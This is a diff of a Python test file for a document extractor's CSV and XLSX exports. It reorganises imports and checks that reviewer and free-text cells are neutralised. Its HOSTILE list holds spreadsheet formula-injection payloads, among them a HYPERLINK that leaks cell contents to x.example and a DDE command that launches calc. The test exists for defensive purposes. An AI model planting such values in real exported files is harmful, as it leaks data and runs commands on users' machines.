@@ -11,10 +11,10 @@ import pytest
 from openpyxl import load_workbook
 
 from extractor.batch.confirmed import CONFIRMED_COLUMNS, write_confirmed
-from extractor.batch.exports import REPORT_COLUMNS, write_exports
+from extractor.exports import REPORT_COLUMNS, write_exports, write_records_csv, write_records_xlsx
+from extractor.review_store import CellEdit, ReviewStore
 from extractor.schema import empty_report
 from extractor.spreadsheet import FORMULA_LEADS, neutralise
-from extractor.store import CellEdit, ReviewStore
 
 REPO = Path(__file__).resolve().parents[1]
 HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
@@ -58,8 +58,8 @@ def test_review_exports_neutralise_reviewer_and_free_text_cells(tmp_path: Path) 
         store.confirm(source_text=f"源文本 {i}", source_sha256=f"{i:064d}", report=report, findings=[], evidence={},
                       machine={}, edits=[CellEdit("active_disclosure.procurement.amount_unit", None, text, who=text)],
                       reviewer=text, expected_version=0)
-    csv_cells = _csv_cells(store.export_csv(tmp_path / "cells.csv"))
-    xlsx_cells = _xlsx_cells(store.export_xlsx(tmp_path / "records.xlsx"))
+    csv_cells = _csv_cells(write_records_csv(store, tmp_path / "cells.csv"))
+    xlsx_cells = _xlsx_cells(write_records_xlsx(store, tmp_path / "records.xlsx"))
     _assert_inert(csv_cells, xlsx_cells, HOSTILE)
 
 
